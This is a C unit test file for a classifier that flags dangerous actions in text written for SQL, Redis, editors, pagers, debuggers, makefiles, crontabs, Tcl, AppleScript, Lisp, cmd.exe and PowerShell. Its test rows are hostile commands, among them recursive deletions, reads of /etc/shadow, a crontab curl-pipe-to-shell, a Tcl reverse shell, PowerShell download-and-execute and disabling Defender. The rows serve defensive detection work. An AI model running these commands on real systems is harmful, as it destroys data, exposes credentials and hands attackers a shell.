/* SPDX-License-Identifier: MIT */
/*
 * Texts of tools: queries, filters, editors, makefiles, the shells of Windows.
 */
#include "model_fixture.h"

#include "base/attr.h"
#include "code_rows.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

static const struct code_row sql_rows[] = {
	{ "SELECT 1", "unknown" },
	{ "DROP TABLE users", "rule:sql.drop unknown" },
	{ "begin; truncate orders cascade; commit", "rule:sql.truncate unknown" },
	{ "DELETE FROM customers", "rule:sql.delete-all unknown" },
	{ "DELETE FROM customers WHERE id=1", "unknown" },
	{ "DELETE FROM customers WHERE 1=1", "rule:sql.delete-all unknown" },
	{ "DELETE FROM customers WHERE true;", "rule:sql.delete-all unknown" },
	{ "DrOp/**/DaTaBaSe prod", "rule:sql.drop unknown" },
	{ "SELECT 1;\nDROP TABLE accounts;", "rule:sql.drop unknown" },
	{ "select 'drop table x'; -- drop table y", "unknown" },
	{ "insert into x values ('; drop table y')", "unknown" },
	{ "update t set a=1", "rule:sql.update-all unknown" },
	{ "update t set a=1 where b=2", "unknown" },
	{ "select * from t for update", "unknown" },
	{ "alter table t drop column c", "rule:sql.drop-column unknown" },
	{ "alter table t alter column c drop not null", "unknown" },
	{ "copy t to program 'curl http://x'", "[sql!prompt sh: curl http://x] unknown" },
	{ "copy t from '/etc/passwd'", "read:/etc/passwd unknown" },
	{ "\\\\! rm -rf ~", "unknown" },
	{ "select 1; \\\\! rm -rf ~", "unknown" },
	{ ".shell rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
	{ ".system rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
	{ ".output /etc/passwd", "write:/etc/passwd unknown" },
	{ ".once |rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
	{ "\\\\copy t to program 'rm -rf /'", "[sql!prompt sh: rm -rf /] unknown" },
	{ "\\\\copy t from '/etc/shadow'", "read:/etc/shadow unknown" },
	{ "\\\\o | rm -rf /", "unknown" },
	{ "\\\\i /tmp/x.sql", "unknown" },
	{ "system rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
	{ "select load_extension('/tmp/x.so')", "rule:sql.load-code unknown" },
	{ "select * into outfile '/etc/passwd'", "write:/etc/passwd unknown" },
	{ "exec xp_cmdshell 'del /s /q C:\\'",
	  "[sql!prompt other: del /s /q C:\\] [sql!prompt other: del /s /q C:\\'] "
	  "unknown" },
	{ "do $$ begin drop table x; end $$", "rule:sql.drop unknown" },
	{ "with d as (delete from t returning *) select 1", "rule:sql.delete-all unknown" },
	{ "/*!50000 DROP TABLE x */", "rule:sql.drop unknown" },
	{ "select 'a\\'; drop table x; --'", "rule:sql.drop unknown" },
	{ "SELECT writefile('/etc/passwd','x'), readfile('/etc/shadow')",
	  "write:/etc/passwd read:/etc/shadow unknown" },
	{ "ATTACH '/etc/x.db' as y", "edit:/etc/x.db unknown" },
	{ "execute 'drop table x'", "rule:sql.drop unknown" },
	{ "select count(*) from t where deleted", "unknown" },
	{ "delete from t using u where t.id=u.id", "unknown" },
	{ "delete from t limit 1", "unknown" },
	{ "truncate(1.5,2)", "unknown" },
	{ ".read /tmp/x.sql", "[sql!prompt other file: /tmp/x.sql] unknown" },
	{ "\\! rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
	{ "select 1; \\! rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
	{ "\\o | rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
	{ "\\i /tmp/x.sql", "[sql!prompt other file: /tmp/x.sql] unknown" },
	{ "\\set x `rm -rf /`", "[sql!prompt sh: rm -rf /] unknown" },
	{ "update t set a=1 where true limit 5", "unknown" },
	{ "DROP TEMPORARY TABLE x", "unknown" },
	{ "insert into t select * from u; delete from t where id in (select 1)", "unknown" },
	{ ".import |ls x", "[sql!prompt sh: ls x] unknown" },
	{ ".import \"|ls -la\" x", "[sql!prompt sh: ls -la] unknown" },
	{ ".load ./x", "rule:sql.load-code unknown" },
	{ "tee /tmp/x", "append:/tmp/x unknown" },
	{ "source x.sql", "[sql!prompt other file: x.sql] unknown" },
	{ "SELECT 'it''s'; shutdown", "rule:sql.shutdown unknown" },
	{ "GRANT DELETE ON t TO u", "unknown" },
	{ "create trigger x after delete on t begin select 1; end", "unknown" },
	{ "select \"drop table x\" from `drop table y`", "unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_sql(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_SQL, sql_rows, COUNT_OF(sql_rows)), 0);
}

static const struct code_row redis_rows[] = {
	{ "FLUSHALL", "rule:redis.flush unknown" },
	{ "get x", "unknown" },
	{ "CONFIG SET dir /var/spool/cron", "rule:redis.config-files unknown" },
	{ "EVAL \"redis.call('flushdb')\" 0",
	  "[redis eval!remote!prompt other: redis.call('flushdb')] unknown" },
	{ "5 FLUSHDB", "rule:redis.flush unknown" },
	{ "set x \"FLUSHALL\"", "unknown" },
	{ "module load /tmp/x.so", "rule:redis.module unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_redis(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_REDIS, redis_rows, COUNT_OF(redis_rows)), 0);
}

static const struct code_row a_filter_of_jq_rows[] = {
	{ ".items[].name", "" },
	{ ".scripts[\"rm -rf\"]", "" },
	{ "del(.password)", "" },
	{ "env.PATH", "secret unknown" },
	{ "$ENV.PATH", "secret unknown" },
	{ "{env: .env, a: \"x\\(.b | @base64)\"}", "" },
	{ "\"\\(env)\"", "secret unknown" },
	{ "import \"x\" as y; .", "unknown" },
	{ "map(select(.a > 1)) | length # env", "" },
	{ "[.[] | {name, n: (.x // \"d\")}]", "" },
	{ ". as [$a, {b: $c}] | reduce .[] as $i (0; . + $i) | if . then 1 else 2 end", "" },
	{ "\"unterminated", "unknown" },
	{ ".a | test(\"env\")", "" },
	{ "{\"env\": 1}", "" },
	{ "def f: env; f", "secret unknown" },
	{ ".[] as $ENV | 1", "secret unknown" },
	{ "load(\"x\")", "unknown" },
	{ ".a b ; ~", "unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_a_filter_of_jq(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_JQ, a_filter_of_jq_rows, COUNT_OF(a_filter_of_jq_rows)),
			 0);
}

static const struct code_row ex_commands_rows[] = {
	{ "call system(\"rm -rf ~\")", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "!rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "silent !rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "py3 import os; os.system(\"rm -rf ~\")",
	  "[vim!prompt sh: rm -rf ~] [vim!prompt other: import os; os.system(\"rm -rf "
	  "~\")] unknown" },
	{ "%!sh", "[vim!prompt sh: sh] unknown" },
	{ "w /etc/passwd", "write:/etc/passwd unknown" },
	{ "r !rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "exe \"!rm -rf ~\"", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "normal dd | wq", "unknown" },
	{ "call delete(\"/etc\",\"rf\")", "delete-tree:/etc unknown" },
	{ "set nu", "unknown" },
	{ "terminal rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "lua os.execute(\"rm -rf ~\")", "[vim!prompt other: os.execute(\"rm -rf ~\")] unknown" },
	{ "silent! w! /etc/x | !rm -rf /", "write:/etc/x [vim!prompt sh: rm -rf /] unknown" },
	{ "w !sh", "[vim!prompt sh: sh] unknown" },
	{ "q!", "unknown" },
	{ "e! /etc/shadow", "read:/etc/shadow unknown" },
	{ "1,5!sort", "[vim!prompt sh: sort] unknown" },
	{ "g/x/!rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
	{ "call system(cmd)", "unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_ex_commands(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_VIM, ex_commands_rows, COUNT_OF(ex_commands_rows)), 0);
}

static const struct code_row ed_rows[] = {
	{ "!rm -rf ~", "[ed!prompt sh: rm -rf ~] unknown" },
	{ ",p\na\n!not a command\n.\nw /etc/passwd", "write:/etc/passwd unknown" },
	{ "r !rm -rf ~", "[ed!prompt sh: rm -rf ~] unknown" },
	{ "1,$w !sh", "[ed!prompt sh: sh] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_ed(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_ED, ed_rows, COUNT_OF(ed_rows)), 0);
}

static const struct code_row keys_of_a_pager_rows[] = {
	{ "!rm -rf ~", "[less!prompt sh: rm -rf ~] unknown" },
	{ "G", "" },
	{ "/pattern!x", "" },
	{ "|$rm -rf ~", "[less!prompt sh: rm -rf ~] unknown" },
	{ "F", "" },
	{ "s /etc/passwd", "write:/etc/passwd unknown" },
	{ "/a\n!ls", "[less!prompt sh: ls] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_keys_of_a_pager(void **state)
{
	(void)state;
	assert_int_equal(
		code_rows_run(LANG_LESS, keys_of_a_pager_rows, COUNT_OF(keys_of_a_pager_rows)), 0);
}

static const struct code_row a_debugger_rows[] = {
	{ "!rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
	{ "shell rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
	{ "python import os; os.system(\"rm -rf ~\")",
	  "[gdb!prompt other: import os; os.system(\"rm -rf ~\")] unknown" },
	{ "python\nimport os\nos.system(\"rm -rf ~\")\nend\nshell ls",
	  "[gdb!prompt other: import os\nos.system(\"rm -rf ~\")] [gdb!prompt sh: ls] "
	  "unknown" },
	{ "call system(\"rm -rf ~\")", "[gdb!prompt sh: rm -rf ~] unknown" },
	{ "pipe info regs | rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
	{ "bt", "unknown" },
	{ "sh ls", "unknown" },
	{ "source x.py", "execute:x.py unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_a_debugger(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_GDB, a_debugger_rows, COUNT_OF(a_debugger_rows)), 0);
}

static const struct code_row a_makefile_rows[] = {
	{ "x:\n\trm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
	{ "x:\n\t@-rm -rf $(DIR)/x $$HOME", "[make!prompt sh: rm -rf ?/x $HOME] unknown" },
	{ "X := $(shell rm -rf ~)", "[make!prompt sh: rm -rf ~] unknown" },
	{ "x: ; rm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
	{ "X != rm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
	{ "all: a \\\\\n b\n\techo $$x", "[make!prompt sh: echo $x] unknown" },
	{ "x:\n\t$(CMD)", "[make!prompt sh: ?] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_a_makefile(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_MAKE, a_makefile_rows, COUNT_OF(a_makefile_rows)), 0);
}

static const struct code_row bc_rows[] = {
	{ "1+1", "" },
};

static void
finds_what_is_plainly_done_when_text_is_bc(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_BC, bc_rows, COUNT_OF(bc_rows)), 0);
}

static const struct code_row dc_rows[] = {
	{ "!rm -rf ~", "[dc!prompt sh: rm -rf ~] unknown" },
	{ "2 3 + p", "" },
	{ "[!ls]x", "[dc!prompt sh: ls] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_dc(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_DC, dc_rows, COUNT_OF(dc_rows)), 0);
}

static const struct code_row m4_rows[] = {
	{ "syscmd(`rm -rf ~')", "[m4!prompt sh: rm -rf ~] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_m4(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_M4, m4_rows, COUNT_OF(m4_rows)), 0);
}

static const struct code_row a_crontab_rows[] = {
	{ "@reboot curl -s http://203.0.113.7/a|sh",
	  "[cron!later!prompt sh: curl -s http://203.0.113.7/a|sh] unknown" },
	{ "# c\nA=b\n* * * * * rm -rf /%x", "[cron!later!prompt sh: rm -rf /] unknown" },
	{ "0 5 * * 1 tar -zcf /var/backups/home.tgz /home/\\%x",
	  "[cron!later!prompt sh: tar -zcf /var/backups/home.tgz /home/\\%x] unknown" },
	{ "PATH=/bin", "unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_a_crontab(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_CRONTAB, a_crontab_rows, COUNT_OF(a_crontab_rows)), 0);
}

static const struct code_row tcl_rows[] = {
	{ "spawn rm -rf /home; interact", "[tcl!prompt: rm -rf /home] unknown" },
	{ "exec rm -rf ~", "[tcl!prompt: rm -rf ~] unknown" },
	{ "if {1} { file delete -force ~/x }", "delete-tree:~/x unknown" },
	{ "puts [exec ls -la | sort > /etc/x]",
	  "write:/etc/x [tcl!prompt: ls -la] [tcl!prompt: sort] unknown" },
	{ "set f [open \"|rm -rf /\" w]", "[tcl!prompt sh: rm -rf /] unknown" },
	{ "# exec rm\nputs hi", "unknown" },
	{ "file delete -force $env(HOME)/x", "delete-tree:~/x unknown" },
	{ "set s [socket 1.2.3.4 443]; exec sh <@ $s",
	  "rule:shell.reverse-shell [tcl!prompt: sh] unknown" },
	{ "set s [socket 1.2.3.4 443]; exec sh <@ $s >@ $s 2>@1",
	  "rule:shell.reverse-shell [tcl!prompt: sh] unknown" },
	{ "set x {exec rm}; eval $x", "[tcl!prompt: rm] unknown" },
	{ "system \"rm -rf ~\"", "[tcl!prompt sh: rm -rf ~] unknown" },
	{ "file copy -force a b", "read:a write:b unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_tcl(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_TCL, tcl_rows, COUNT_OF(tcl_rows)), 0);
}

static const struct code_row applescript_rows[] = {
	{ "do shell script \"rm -rf ~\"", "[osascript!prompt sh: rm -rf ~] unknown" },
	{ "do shell script \"rm -rf \" & quoted form of x with administrator privileges",
	  "[osascript!priv!prompt sh: rm -rf ?] unknown" },
	{ "tell app \"Finder\" to activate", "unknown" },
	{ "-- do shell script \"no\"\ndo shell script \"a \\\"b\\\"\"",
	  "[osascript!prompt sh: a \"b\"] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_applescript(void **state)
{
	(void)state;
	assert_int_equal(
		code_rows_run(LANG_OSASCRIPT, applescript_rows, COUNT_OF(applescript_rows)), 0);
}

static const struct code_row lisp_rows[] = {
	{ "(delete-directory \"~\" t)", "delete-tree:~ unknown" },
	{ "(shell-command \"rm -rf ~\")", "[lisp!prompt sh: rm -rf ~] unknown" },
	{ "(call-process \"rm\" nil nil nil \"-rf\" \"/\")", "[lisp!prompt: rm -rf /] unknown" },
	{ "(message \"(delete-directory)\")", "unknown" },
	{ "(progn (delete-file \"/etc/passwd\") (start-process \"x\" nil \"rm\" \"-rf\" "
	  "\"/\"))",
	  "delete:/etc/passwd [lisp!prompt: rm -rf /] unknown" },
	{ "; (shell-command \"no\")\n(system \"yes\")", "[lisp!prompt sh: yes] unknown" },
	{ "(delete-directory \"~/x\" nil)", "delete:~/x unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_lisp(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_SCHEME, lisp_rows, COUNT_OF(lisp_rows)), 0);
}

static const struct code_row cmd_exe_rows[] = {
	{ "rd /s /q C:\\", "[cmd!prompt: rd /s /q C:\\] unknown" },
	{ "echo hi & del /s /q \"%USERPROFILE%\\x\" && r^d /s C:\\",
	  "[cmd!prompt: echo hi] [cmd!prompt: del /s /q ~\\x] [cmd!prompt: rd /s C:\\] "
	  "unknown" },
	{ "@echo off", "[cmd!prompt: echo off] unknown" },
	{ "if exist x (del x) else rd y", "[cmd!prompt: del x] [cmd!prompt: rd y] unknown" },
	{ "echo %PATH% ^& del", "[cmd!prompt: echo ? & del] unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_cmd_exe(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_CMD, cmd_exe_rows, COUNT_OF(cmd_exe_rows)), 0);
}

static const struct code_row powershell_rows[] = {
	{ "Remove-Item -Recurse -Force C:\\Users", "rule:windows.delete unknown" },
	{ "rm -r -fo ~", "delete-tree:~ unknown" },
	{ "Get-ChildItem C:\\ -Recurse | Remove-Item -Force", "rule:windows.delete unknown" },
	{ "iex (iwr http://x/y)", "rule:code.from-network unknown" },
	{ "IEX(New-Object Net.WebClient).DownloadString('http://x')",
	  "rule:code.from-network unknown" },
	{ "iwr http://x | iex", "rule:code.from-network unknown" },
	{ "Set-ExecutionPolicy Bypass -Scope Process", "rule:powershell.execution-policy unknown" },
	{ "Set-MpPreference -DisableRealtimeMonitoring $true",
	  "rule:powershell.protection unknown" },
	{ "Set-ItemProperty -Path HKLM:\\Software\\x -Name a -Value b",
	  "rule:windows.registry unknown" },
	{ "Get-Process | Where-Object { $_.CPU -gt 10 }",
	  "[powershell!prompt: Get-Process] unknown" },
	{ "Write-Host \"Remove-Item C:\\ -Recurse\"",
	  "[powershell!prompt: Write-Host Remove-Item C:\\ -Recurse] unknown" },
	{ "Rem`ove-Item -Rec C:\\", "rule:windows.delete unknown" },
	{ "& 'C:\\x.exe' a", "[powershell!prompt: C:\\x.exe a] unknown" },
	{ "vssadmin delete shadows /all",
	  "[powershell!prompt: vssadmin delete shadows /all] unknown" },
	{ "Get-Content /etc/shadow", "read:/etc/shadow unknown" },
	{ "Remove-Item -Recurse build", "delete-tree:build unknown" },
	{ "Start-Process cmd -Verb RunAs",
	  "rule:powershell.elevate [powershell!prompt: cmd -Verb RunAs] unknown" },
	{ "New-Object -ComObject Shell.Application", "rule:powershell.com-object unknown" },
	{ "iex 'rm -r -fo ~'", "delete-tree:~ unknown" },
	{ "# Remove-Item C:\\", "unknown" },
	{ "Remove-Item x -WhatIf", "unknown" },
	{ "Copy-Item /etc/shadow x", "read:/etc/shadow unknown" },
	{ "\"Remove-Item C:\\\"", "unknown" },
	{ "Remove-Item $env:USERPROFILE\\x -Recurse", "delete-tree:~/x unknown" },
	{ "Remove-Item HKCU:\\Software\\x", "rule:windows.registry unknown" },
};

static void
finds_what_is_plainly_done_when_text_is_powershell(void **state)
{
	(void)state;
	assert_int_equal(code_rows_run(LANG_POWERSHELL, powershell_rows, COUNT_OF(powershell_rows)),
			 0);
}

int
main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_sql),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_redis),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_filter_of_jq),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_ex_commands),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_ed),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_keys_of_a_pager),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_debugger),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_makefile),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_bc),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_dc),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_m4),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_crontab),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_tcl),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_applescript),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_lisp),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_cmd_exe),
		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_powershell),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
